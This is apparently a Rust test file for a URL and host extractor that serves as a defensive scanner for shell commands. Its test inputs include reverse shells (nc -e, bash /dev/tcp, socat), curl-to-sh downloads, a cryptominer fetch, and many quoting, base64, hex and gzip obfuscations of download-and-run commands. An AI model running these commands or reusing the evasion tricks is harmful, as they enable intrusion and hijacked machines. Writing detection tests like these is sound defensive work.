use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::{MAX_URLS, find};

fn b64(text: impl AsRef<[u8]>) -> String {
    STANDARD.encode(text)
}

#[test]
fn urls_end_where_the_shell_ends_them() {
    for (text, expected) in [
        (
            "wget -q -O /tmp/x http://203.0.113.77/xmrig && chmod +x /tmp/x",
            "http://203.0.113.77/xmrig",
        ),
        ("curl 'https://h.example/a?b=1&c=2;d'|sh", "https://h.example/a?b=1&c=2;d"),
        ("curl https://h.example/a;id", "https://h.example/a"),
        ("(curl http://h.example/a)", "http://h.example/a"),
        ("see http://h.example/a.", "http://h.example/a"),
        ("[\"curl\",\"http://h.example/a\"]", "http://h.example/a"),
        ("x=$(curl http://h.example/$(uname -m))", "http://h.example/"),
        ("wget http://[2001:db8::9]:80/x>y", "http://[2001:db8::9]:80/x"),
        ("A=HTTP://H.example/$V/x", "HTTP://H.example/$V/x"),
        ("printf http://h.example/a\\n", "http://h.example/a"),
        ("git clone git@h.example:o/r.git /r", "git@h.example:o/r.git"),
        ("pip install -i http://h.example/simple x", "http://h.example/simple"),
    ] {
        assert_eq!(find(text), [expected], "{text}");
    }
}

#[test]
fn bare_hosts_of_fetching_commands() {
    for (text, expected) in [
        ("wget -qO x.sh evil.example/x.sh", "evil.example/x.sh"),
        ("curl -sSL 203.0.113.9:8080/a -o out.tgz", "203.0.113.9:8080/a"),
        ("busybox wget 3405803785/x", "3405803785/x"),
        ("nc -w 3 203.0.113.9 4444 -e /bin/sh", "203.0.113.9:4444"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "203.0.113.9:4444"),
        ("exec 3<>/dev/tcp/evil.example/80", "evil.example:80"),
        ("socat exec:sh tcp:203.0.113.9:443", "203.0.113.9:443"),
        ("sh -c \"curl -s evil.example/x | sh\"", "evil.example/x"),
        ("pip install --trusted-host evil.example x", "evil.example"),
        ("s.connect((\"203.0.113.9\",4444))", "203.0.113.9:4444"),
        ("./xmrig -o pool.example:3333 -u W", "pool.example:3333"),
        ("H=203.0.113.9; wget $H/x", "203.0.113.9/x"),
        ("H=203.0.113.9 && P=81 && wget http://${H}:$P/x", "http://203.0.113.9:81/x"),
    ] {
        assert_eq!(find(text), [expected], "{text}");
    }
}

#[test]
fn quoting_hides_no_url() {
    let expected = ["http://203.0.113.9/x"];
    for text in [
        "curl ht''tp://203.0.113.9/x",
        "curl h\"\"ttp://203.0.113.9/x",
        "curl h\\ttp://203.0.113.9/x",
        "curl http:\"//\"203.0.113.9/x",
        "curl http:/\\/203.0.113.9/x",
        "c''url 'ht'tp://'203.0.113.9'/x",
        "curl ht\\\ntp://203.0.113.9/x",
        "curl ht$@tp://203.0.113.9/x",
        "curl $(echo http)://203.0.113.9/x",
        "curl `printf http`://203.0.113.9/x",
        "H=ht T=tp; curl $H$T://203.0.113.9/x",
        "H=$(echo http); curl ${H}://203.0.113.9/x",
        "sh -c \"curl ht''tp://203.0.113.9/x\"",
        "curl $(echo aHR0cDovLzIwMy4wLjExMy45|base64 -d)/x",
        "curl $(echo x/9.311.0.302//:ptth|rev)",
    ] {
        let found: Vec<String> = find(text).into_iter().filter(|url| url.ends_with("/x")).collect();
        assert_eq!(found, expected, "{text}");
    }
    for (text, url) in [
        ("wget http://203.0.\"\"113.9/x", "http://203.0.113.9/x"),
        ("wget http://ev\\\nil.example/x", "http://evil.example/x"),
        ("wget http://e\\vil.example/x", "http://evil.example/x"),
        ("wget ev''il.example/x", "evil.example/x"),
        ("w\\get evil.example/x", "evil.example/x"),
    ] {
        assert!(find(text).contains(&url.to_owned()), "{text}: {:?}", find(text));
    }
    // Between double quotes a backslash before a slash is one.
    assert!(find("sed -i \"s/http:\\/\\/a.example/x/\" f").is_empty());
}

#[test]
fn text_that_fetches_nothing_names_nothing() {
    for text in [
        "",
        "://",
        "http://",
        "http://$H/x",
        "file:///etc/passwd",
        "unix:///run/docker.sock",
        "apk add --no-cache curl",
        "wget -O out.tgz",
        "mkdir -p /a/b.c/d",
        "echo $((1+2))",
        "FROM alpine:3.18",
        "git config --global user.email me@h.example",
        "apt-get install -y curl node.js",
        "curl --version",
        "chmod 755 x.sh",
        "'",
        "\\",
        "\"\u{301}",
    ] {
        assert_eq!(find(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn two_layers_are_peeled_and_a_third_is_not() {
    let one = b64("wget http://203.0.113.9/x");
    let two = b64(format!("echo {one} | base64 -d | sh"));
    let three = b64(format!("echo {two} | base64 -d | sh"));
    for text in [
        format!("echo {one} | base64 -d | sh"),
        format!("python -c 'import base64;exec(base64.b64decode(\"{one}\"))'"),
        format!("RUN echo {two}|base64 -d|sh"),
        format!("X={}", one.trim_end_matches('=')),
    ] {
        assert_eq!(find(&text), ["http://203.0.113.9/x"], "{text}");
    }
    assert_eq!(find(&format!("echo {three} | base64 -d")), Vec::<String>::new());
}

#[test]
fn wrapped_base64_is_joined() {
    let whole = b64(format!("{} wget http://203.0.113.9/{}", "#".repeat(40), "a".repeat(60)));
    let wrapped: Vec<&str> =
        whole.as_bytes().chunks(76).map(|c| std::str::from_utf8(c).unwrap()).collect();
    let expected = [format!("http://203.0.113.9/{}", "a".repeat(60))];
    assert_eq!(find(&format!("cat <<E\n{}\nE", wrapped.join("\n"))), expected);
    assert_eq!(find(&format!("echo {}", wrapped.join("\\\n"))), expected);
}

#[test]
fn escapes_hexadecimal_wide_and_gzip_are_decoded() {
    let plain = "curl http://203.0.113.9/x";
    let hex: String = plain.bytes().map(|b| format!("{b:02x}")).collect();
    let escaped: String = plain.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let octal: String = plain.bytes().map(|b| format!("\\{b:03o}")).collect();
    let wide: Vec<u8> = plain.bytes().flat_map(|b| [b, 0]).collect();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gzip, plain.as_bytes()).unwrap();
    for text in [
        format!("echo {hex} | xxd -r -p | sh"),
        format!("printf '{escaped}' | sh"),
        format!("printf \"{octal}\" | sh"),
        format!("powershell -enc {}", b64(wide)),
        format!("echo {} | base64 -d | gunzip", b64(gzip.finish().unwrap())),
    ] {
        assert_eq!(find(&text), ["http://203.0.113.9/x"], "{text}");
    }
}

#[test]
fn user_info_is_removed() {
    let urls = find("git clone https://me:hunter2@h.example/r.git");
    assert_eq!(urls.len(), 1);
    assert!(!urls[0].contains("hunter2") && urls[0].ends_with("@h.example/r.git"), "{urls:?}");
}

#[test]
fn hostile_texts_are_bounded() {
    let many: String = (0..5000).map(|n| format!("http://h{n}.example/ ")).collect();
    assert_eq!(find(&many).len(), MAX_URLS);
    for text in [
        "://".repeat(300_000),
        "http://a".repeat(130_000),
        "A".repeat(1 << 20),
        b64(b64("x".repeat(500_000))),
        "\\x41".repeat(200_000),
        "'".repeat(1 << 20),
        "/dev/tcp/".repeat(100_000),
        "connect((\"".repeat(100_000),
        format!("{}$A", "A=$A$A ".repeat(100_000)),
        "wget ".repeat(200_000),
        "-o a.b:1 ".repeat(100_000),
        "$(echo ".repeat(100_000),
        "`".repeat(1 << 20),
        "$(echo http)://a ".repeat(60_000),
        "h''ttp://a ".repeat(90_000),
        "''".repeat(1 << 19),
    ] {
        assert!(find(&text).len() <= MAX_URLS);
    }
}

#[test]
fn changed_bytes_never_panic() {
    let text = "H=1.2.3.4; wget -qO- \"http://$H/x\" | sh; echo aHR0cDovLzIwMy4wLjExMy45L3g= | \
        base64 -d; curl ht''tp://1.2.3.4/$(echo x | rev) `printf %s y`; git clone git@h.example:o/r; printf '\\x68\\150'; nc 1.2.3.4 44 </dev/tcp/h/1";
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    for _ in 0..3000 {
        let mut bytes = text.as_bytes().to_vec();
        for _ in 0..4 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let at = usize::try_from(seed >> 40).unwrap() % bytes.len();
            bytes[at] = seed.to_le_bytes()[0];
        }
        let text = String::from_utf8_lossy(&bytes);
        for url in find(&text) {
            assert!(super::host_port(&url).is_some(), "seed {seed}: {url}");
            assert!(!url.contains(char::is_whitespace), "seed {seed}: {url}");
        }
    }
}
